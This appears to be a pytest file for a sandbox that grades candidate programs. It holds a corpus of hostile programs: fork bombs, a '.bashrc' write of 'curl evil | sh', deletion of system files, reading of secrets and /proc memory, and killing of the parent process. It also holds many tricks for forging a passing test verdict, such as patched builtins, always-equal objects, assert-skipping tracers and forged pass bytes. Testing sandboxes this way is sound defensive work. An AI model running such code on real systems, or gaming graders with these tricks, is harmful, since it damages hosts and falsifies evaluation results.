"""The hostile-code corpus: every candidate is refused a pass, reaches nothing outside its temp dir, leaves no
process behind, and the honest candidate that runs right after it passes.

Programs name host paths with @TOKENS@ that the test replaces (with a Python string literal): @RUN_DIR@ (a
run directory with sentinel files), @HOME@ (the test process's HOME), @REAL_HOME@ (the user's real home),
@SECRET_PATH@ (a file whose content must not reach the Execution), @PORT@ (a TCP server on 127.0.0.1 that
must see no connection), @MARKER@ (a word that must not be left in any process's command line).
"""

from __future__ import annotations

import os
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.sandbox.conftest import SQUARE, SQUARE_TEST, Host, sandbox_processes
from ttscale.sandbox import Sandbox

ABS_TEST = "def check(candidate):\n    assert abs(candidate(2) - 4) < 1e-9\n"
MATH_TEST = "def check(candidate):\n    import math\n    assert math.fabs(candidate(2) - 4) < 1e-9\n"
WRONG = "\ndef solve(x):\n    return x\n"
#: A program that ends at once: what it takes, as the host sees it, is what the sandbox's start costs right now (its
#: namespaces, the supervisor's and the program's interpreters): 2.2 s once in `make test`, beside the other worker's
#: engines.
AT_ONCE = "\ndef solve(x):\n    return x * x\n"
REAL_HOME = os.path.expanduser("~")  # before any fixture points HOME elsewhere
# A tracer that jumps over every line of the tests' check function (so over its asserts).
JUMPER = """
import sys
def jumper(frame, event, arg):
    if event == "line" and frame.f_code.co_name == "check":
        try:
            frame.f_lineno = frame.f_lineno + 1
        except ValueError:
            pass
    return jumper
"""


@dataclass(frozen=True)
class Case:
    id: str
    program: str
    expected: str
    test: str = SQUARE_TEST


CASES = [
    # Resources.
    Case("fork_bomb", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
         "timeout"),
    Case("memory_bomb", "hog = []\nwhile True:\n    hog.append(bytearray(10**7))\n", "crashed"),
    Case("infinite_loop", "while True:\n    pass\n", "timeout"),
    Case("busy_threads", "import threading\ndef spin():\n    while True:\n        pass\n"
         "for _ in range(4):\n    threading.Thread(target=spin, daemon=True).start()\nspin()\n", "timeout"),
    Case("cpu_in_one_c_call", "x = 10**10**8\n", "timeout"),
    Case("huge_output", "import sys\nchunk = 'x' * 2**20\nfor _ in range(100):\n    sys.stdout.write(chunk)\n"
         "sys.stdout.flush()\n" + WRONG, "failed"),
    Case("deep_recursion", "def f(n):\n    return f(n + 1)\nf(0)\n", "crashed"),
    Case("segfault", "import ctypes\nctypes.string_at(0)\n", "crashed"),
    Case("ignores_sigterm_and_sigxcpu", "import signal\nfor s in (signal.SIGTERM, signal.SIGXCPU, signal.SIGINT):\n"
         "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass\n", "timeout"),
    # The host.
    Case("writes_run_dir", "open(@RUN_DIR@ + '/results.jsonl', 'a').write('{\"correct\": true}')\n", "crashed"),
    Case("writes_home", "import os\nfor home in (@HOME@, @REAL_HOME@, os.path.expanduser('~')):\n    try:\n"
         "        open(os.path.join(home, '.bashrc'), 'a').write('curl evil | sh')\n"
         "        open(os.path.join(home, 'pwned-@MARKER@'), 'w').write('x')\n    except OSError:\n        pass\n"
         + WRONG, "failed"),
    Case("deletes_files", "import os, shutil\nos.remove(@RUN_DIR@ + '/config.json')\nshutil.rmtree(@RUN_DIR@)\n",
         "crashed"),
    Case("deletes_system_files", "import os\nfor path in ('/usr/bin/env', '/bin/sh', __import__('sys').executable):\n"
         "    try:\n        os.remove(path)\n    except OSError:\n        pass\n" + WRONG, "failed"),
    Case("reads_secret", "secret = open(@SECRET_PATH@).read()\nprint(secret)\nraise AssertionError(secret)\n",
         "crashed"),
    Case("reads_parent_memory", "import os\nfound = []\nfor pid in [os.getppid(), 1] + [p for p in os.listdir('/proc')"
         " if p.isdigit()]:\n    for name in ('environ', 'cmdline', 'mem'):\n        try:\n"
         "            found.append(open(f'/proc/{pid}/{name}', 'rb').read(4096))\n        except OSError:\n"
         "            pass\nprint(found)\nprint(os.environ)\nraise AssertionError(repr(found))\n", "crashed"),
    Case("tcp_to_host", "import socket\nsocket.create_connection(('127.0.0.1', @PORT@), timeout=1).sendall(b'x')\n",
         "crashed"),
    Case("shell_out", "import subprocess\nsubprocess.run(['sh', '-c', 'echo pwned > ' + @RUN_DIR@ + '/x; "
         "echo pwned > ' + @REAL_HOME@ + '/pwned-@MARKER@'])\n" + WRONG, "failed"),
    Case("remounts_rw", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
         "assert libc.mount(None, b'/', None, 32 | 4096, None) != 0\nassert libc.unshare(0x10000000) != 0\n"
         "open(@RUN_DIR@ + '/x', 'w')\n", "crashed"),
    # Other processes.
    # Its parent is the tests' process (the same uid, in the same pid namespace): killing it ends the execution
    # without a verdict of the tests' (crashed), stopping it leaves one to the wall clock; never a pass.
    Case("kills_parent", "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError:\n"
         "    pass\n" + WRONG, "crashed"),
    Case("stops_parent", "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\n" + WRONG, "timeout"),
    Case("kills_own_group", "import os, signal\nos.killpg(os.getpgid(0), signal.SIGKILL)\n", "crashed"),
    Case("kills_everything", "import os, signal\nos.kill(-1, signal.SIGKILL)\n", "crashed"),  # ESRCH: nothing to kill
    Case("daemon", "import os, sys\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
         "        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)  # @MARKER@'])\n"
         "    os._exit(0)\nos.wait()\n" + WRONG, "failed"),
    # The verdict.
    Case("sys_exit_0", "import sys\nsys.exit(0)\n" + SQUARE, "failed"),
    Case("os_exit_0", "import os\nos._exit(0)\n" + SQUARE, "failed"),
    Case("execs_true", "import os\nos.execv('/bin/true', ['true'])\n" + SQUARE, "failed"),
    Case("system_exit_in_call", "def solve(x):\n    raise SystemExit(0)\n", "failed"),
    Case("prints_passed", "print('passed')\nprint('{\"status\": \"passed\", \"passed\": true}')\n" + WRONG, "failed"),
    Case("own_check", "def check(candidate):\n    pass\n" + WRONG, "failed"),
    Case("check_swapped_by_thread", "import threading\nns = globals()\ndef swap():\n    while True:\n"
         "        ns['check'] = lambda candidate: None\nthreading.Thread(target=swap, daemon=True).start()\n" + WRONG,
         "failed"),
    Case("patches_builtins", "import builtins\nbuiltins.abs = lambda x: 0\n" + WRONG, "failed", ABS_TEST),
    Case("patches_math", "import math\nmath.fabs = lambda x: 0.0\n" + WRONG, "failed", MATH_TEST),
    Case("import_hook", "import sys, types\nclass Finder:\n    def find_spec(self, name, path, target=None):\n"
         "        if name == 'math':\n            import importlib.util\n"
         "            return importlib.util.spec_from_loader(name, self)\n    def create_module(self, spec):\n"
         "        module = types.ModuleType('math')\n        module.fabs = lambda x: 0.0\n        return module\n"
         "    def exec_module(self, module):\n        pass\nsys.modules.pop('math', None)\n"
         "sys.meta_path.insert(0, Finder())\n" + WRONG, "failed", MATH_TEST),
    Case("always_equal", "class Yes:\n    def __eq__(self, other):\n        return True\n"
         "    __hash__ = object.__hash__\ndef solve(x):\n    return Yes()\n", "failed"),
    Case("int_subclass", "class Int(int):\n    def __eq__(self, other):\n        return True\n"
         "    __hash__ = int.__hash__\ndef solve(x):\n    return Int(0)\n", "failed"),
    # Issue 42: a class whose metaclass says it equals every type passed the exact-type check (`type(v) in
    # frozenset(...)` compares with ==), and its always-equal instances then passed every assert.
    Case("metaclass_equals_every_type", "class Meta(type):\n    def __eq__(cls, other):\n        return True\n"
         "    def __hash__(cls):\n        return hash(int)\nclass Forged(metaclass=Meta):\n"
         "    def __eq__(self, other):\n        return True\n    __hash__ = object.__hash__\n"
         "def solve(x):\n    return Forged()\n", "failed"),
    Case("metaclass_equals_in_a_list", "class Meta(type):\n    def __eq__(cls, other):\n        return True\n"
         "    def __hash__(cls):\n        return hash(int)\nclass Forged(metaclass=Meta):\n"
         "    def __eq__(self, other):\n        return True\n    __hash__ = object.__hash__\n"
         "def solve(x):\n    return [Forged()]\n", "failed", "def check(candidate):\n    assert candidate(2) == [4]\n"),
    # The guard asked builtins (`type`, `reversed`) about what the candidate returned: the candidate replaced them
    # before returning.
    Case("replaces_type_in_call", "import builtins\nclass Yes:\n    def __eq__(self, other):\n        return True\n"
         "    __hash__ = object.__hash__\ndef solve(x):\n    builtins.type = lambda value: int\n    return Yes()\n",
         "failed"),
    Case("replaces_reversed_in_call", "import builtins\ndef solve(x):\n"
         "    builtins.reversed = lambda items: iter([x * x])\n    return [x]\n", "failed",
         "def check(candidate):\n    assert candidate(2) == [4]\n    assert candidate(5) == [25]\n"),
    # A str subclass key in the module's globals with the hash of "abs": every lookup of `abs` in those globals
    # (the test's own) called its __eq__, which said "equal" and answered with the candidate's function.
    Case("globals_key_answers_for_abs", "class Key(str):\n    def __hash__(self):\n        return hash('abs')\n"
         "    def __eq__(self, other):\n        return True\nglobals()[Key('k')] = lambda x: 0\n" + WRONG, "failed",
         ABS_TEST),
    Case("globals_key_answers_for_check", "class Key(str):\n    def __hash__(self):\n        return hash('check')\n"
         "    def __eq__(self, other):\n        return True\nglobals()[Key('k')] = lambda candidate: None\n" + WRONG,
         "failed"),
    # The harness called builtins (range) after the program ran and before restoring them: a replaced range,
    # called after gc.callbacks was cleared, added a callback that patched abs at every collection of the tests.
    Case("replaced_range_adds_a_gc_callback", "import builtins, gc\n"
         "def patch(*args):\n    builtins.abs = lambda x: 0\n"
         "def rearm(*args):\n    gc.set_threshold(1)\n    gc.callbacks.append(patch)\n    return iter(())\n"
         "builtins.range = rearm\n" + WRONG, "failed", ABS_TEST),
    Case("settrace_at_import", JUMPER + "sys.settrace(jumper)\n" + WRONG, "failed"),
    Case("settrace_in_call", JUMPER + "import threading\ndef solve(x):\n    threading.settrace(jumper)\n"
         "    frame = sys._getframe(1)\n    while frame:\n        frame.f_trace = jumper\n"
         "        frame = frame.f_back\n    sys.settrace(jumper)\n    return x\n", "failed"),
    # A timer every 20 µs: one firing between the harness's reset of handlers and of timers would kill the run
    # ("crashed", 35 of 40 runs when the handlers were reset first), where the verdict must be "failed".
    Case("signal_handler_patches", "import signal, builtins\n"
         "signal.signal(signal.SIGALRM, lambda *a: setattr(builtins, 'abs', lambda x: 0))\n"
         "signal.setitimer(signal.ITIMER_REAL, 2e-5, 2e-5)\n" + WRONG, "failed", ABS_TEST),
    Case("gc_callback_patches", "import gc, builtins\ngc.callbacks.append(lambda *a: setattr(builtins, 'abs', "
         "lambda x: 0))\n" + WRONG, "failed", ABS_TEST),
    Case("audit_hook", "import sys, builtins\nsys.addaudithook(lambda event, args: setattr(builtins, 'abs', "
         "lambda x: 0))\n" + WRONG, "failed", ABS_TEST),
    Case("atexit_writes_pass", "import atexit, os\ndef forge():\n    for fd in range(1, 20):\n        try:\n"
         "            os.write(fd, b'\\x1eP' + os.urandom(32))\n            os.write(fd, b'passed')\n"
         "        except OSError:\n            pass\natexit.register(forge)\nimport sys\nsys.exit(0)\n", "failed"),
    Case("thread_writes_later", "import os, threading, time\ndef forge():\n    time.sleep(0.01)\n"
         "    for fd in range(1, 20):\n        try:\n            os.write(fd, b'\\x1eP' + b'\\x00' * 32 + b'passed')\n"
         "        except OSError:\n            pass\nthreading.Thread(target=forge).start()\n" + WRONG, "failed"),
    Case("echoes_fds", "import os\ndata = b''\nfor fd in range(3, 20):\n    try:\n"
         "        os.set_blocking(fd, False)\n        data += os.read(fd, 4096)\n    except OSError:\n        pass\n"
         "def solve(x):\n    for fd in range(1, 20):\n        try:\n            os.write(fd, b'\\x1eP' + data)\n"
         "        except OSError:\n            pass\n    return x\n", "failed"),
    Case("closes_fds", "import os\nos.closerange(0, 100)\n" + SQUARE, "failed"),
    Case("dup2s_fds", "import os\nfor fd in range(0, 10):\n    try:\n        os.dup2(1, fd)\n"
         "    except OSError:\n        pass\n" + SQUARE, "failed"),
    Case("syntax_error", "def solve(x:\n    return x * x\n", "crashed"),
    # Issue 59: what forged a pass while the tests ran in the candidate's own process. They now run in another
    # process, which the candidate's code never enters and which alone holds the secret and the result pipe.
    # Its descriptor 3 carries the tests' requests (none until the program has run: the read waits for ever).
    Case("reads_fd_3_writes_the_pass_on_fd_4", "import os\nsecret = os.read(3, 64)\nflip = bytes(range(256))"
         ".translate(bytes(b ^ 0xA5 for b in range(256)))\nos.write(4, b'\\x1eP' + secret.translate(flip))\n"
         "os._exit(0)\n", "timeout"),
    Case("writes_the_pass_on_fd_4_in_a_call", "import os\ndef solve(x):\n    for fd in range(3, 10):\n"
         "        try:\n            os.write(fd, b'\\x1eP' + bytes(32))\n        except OSError:\n"
         "            pass\n    return x\n", "failed"),
    Case("calls_the_harness_found_through_gc", "import gc\nfor o in gc.get_objects():\n"
         "    name = getattr(o, '__name__', '')\n    if name in ('deliver', '_report', 'run', 'judge'):\n"
         "        try:\n            o() if name == 'deliver' else None\n        except Exception:\n"
         "            pass\n" + WRONG, "failed"),
    Case("calls_the_harness_found_through_frames", "import sys\ndef solve(x):\n    frame = sys._getframe(1)\n"
         "    while frame:\n        for name in ('_Judge', '_report', 'pass_message'):\n"
         "            found = frame.f_globals.get(name)\n            if found is not None and name == '_report':\n"
         "                try:\n                    found(b'P', 'x')\n                except BaseException:\n"
         "                    pass\n        frame = frame.f_back\n    return x\n", "failed"),
    Case("patches_the_harness_encoder", "import sys\nframe = sys._getframe()\nwhile frame:\n"
         "    if 'encode' in frame.f_globals:\n        frame.f_globals['encode'] = lambda value: b''\n"
         "    frame = frame.f_back\n" + WRONG, "failed"),
    Case("binds_check_early_and_swaps_its_code", "import threading, gc\ncheck = None\n"
         "for i in range(300000):\n    globals()[f'g{i}'] = i\ndef nothing(candidate):\n    pass\n"
         "def swap():\n    while True:\n        for o in gc.get_objects():\n"
         "            if getattr(o, '__name__', '') == 'check' and hasattr(o, '__code__'):\n"
         "                o.__code__ = nothing.__code__\nthreading.Thread(target=swap, daemon=True).start()\n" + WRONG,
         "failed"),
    Case("reads_the_expected_values", "import gc\nseen = [c for o in gc.get_objects() if type(o).__name__ == 'code'"
         " and o.co_name == 'check' for c in o.co_consts if type(c) is int]\n"
         "def solve(x):\n    return max(seen, default=x)\n", "failed"),
    Case("patches_the_tests_frame_in_a_call", "import sys, builtins\ndef solve(x):\n    frame = sys._getframe(1)\n"
         "    while frame:\n        frame.f_globals['abs'] = lambda value: 0\n        frame = frame.f_back\n"
         "    builtins.abs = lambda value: 0\n    return x\n", "failed", ABS_TEST),
    Case("patches_os_path_join", "import os.path\nos.path.join = lambda *parts: 'a/4'\n" + WRONG, "failed",
         "def check(candidate):\n    import os\n    assert os.path.join('a', str(candidate(2))) == 'a/4'\n"),
    Case("module_global_named_like_a_builtin", "def abs(x):\n    return 0\n" + WRONG, "failed", ABS_TEST),
    Case("returns_a_callable", "def solve(x):\n    return lambda other: True\n", "failed",
         "def check(candidate):\n    assert candidate(2)(4)\n"),
]


@pytest.fixture
def tcp_server() -> Iterator[tuple[int, list[object]]]:
    """A server on 127.0.0.1 that records every connection it accepts."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.05)
    accepted: list[object] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, address = server.accept()
            except OSError:
                continue
            accepted.append(address)
            connection.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join()
    server.close()


def _fill(program: str, host: Host, port: int, marker: str) -> str:
    tokens = {"@RUN_DIR@": repr(str(host.run_dir)), "@HOME@": repr(str(host.home)), "@REAL_HOME@": repr(REAL_HOME),
              "@SECRET_PATH@": repr(str(host.secret_path)), "@PORT@": str(port), "@MARKER@": marker}
    for token, value in tokens.items():
        program = program.replace(token, value)
    return program


def test_the_corpus_is_large_and_distinct() -> None:
    assert len(CASES) >= 25
    assert len({case.id for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
@pytest.mark.usefixtures("no_strays")
def test_hostile_program(case: Case, namespaced: Sandbox, host: Host, tcp_server: tuple[int, list[object]]) -> None:
    port, accepted = tcp_server
    marker = f"hostile-{uuid.uuid4().hex}"
    before = host.snapshot()
    since = time.time()
    real_home_before = set(os.listdir(REAL_HOME))
    execution = namespaced.run(program=_fill(case.program, host, port, marker), test=case.test, entry_point="solve")

    assert execution.status == case.expected, execution
    # Ended by the sandbox's own limits, never by the host's fallback (the supervisor did not answer in time), and
    # promptly: within 1.5 s of the wall-clock limit, beyond what the sandbox's start costs right now.
    assert "supervisor did not answer" not in execution.reason, execution
    bound = namespaced.limits.wall_seconds + 1.5
    if execution.seconds >= bound:
        bound += namespaced.run(program=AT_ONCE, test=case.test, entry_point="solve").seconds
        if os.getloadavg()[0] > (os.cpu_count() or 1):
            # A machine busier than its cores (the other test worker's engine): ending a fork bomb's processes took
            # 3.7 s past the limit once in a fresh-clone run there. Its own limit ended it (the reason above), before
            # the host's fallback at wall_seconds + 5 s, which is the bound that holds under any load.
            bound = namespaced.limits.wall_seconds + 5.0
    assert execution.seconds < bound, (execution, bound)
    assert host.snapshot() == before, "files outside the sandbox changed"
    assert set(os.listdir(REAL_HOME)) == real_home_before
    assert not accepted, "the host's TCP server saw a connection"
    assert host.secret not in execution.reason + execution.output
    assert len(execution.output) <= namespaced.limits.output_kib * 1024 + 100
    assert not sandbox_processes(since, marker)
    honest = namespaced.run(program=SQUARE, test=SQUARE_TEST, entry_point="solve")
    assert honest.passed, honest


def test_huge_output_is_cut_and_counted(namespaced: Sandbox) -> None:
    program = "import sys\nsys.stdout.write('y' * 10**7)\n" + WRONG
    execution = namespaced.run(program=program, test=SQUARE_TEST, entry_point="solve")
    kept = namespaced.limits.output_kib * 1024
    assert execution.status == "failed"
    assert execution.output.startswith("y" * kept)
    assert execution.output.endswith(f"[{10**7 - kept:,} more bytes of output dropped]")


def test_hostile_outputs_do_not_reach_the_real_home() -> None:
    leftovers = [name for name in os.listdir(REAL_HOME) if name.startswith("pwned-hostile-")]
    for name in leftovers:  # clean up after a failure, so that one broken run does not fail every later one
        Path(REAL_HOME, name).unlink()
    assert not leftovers
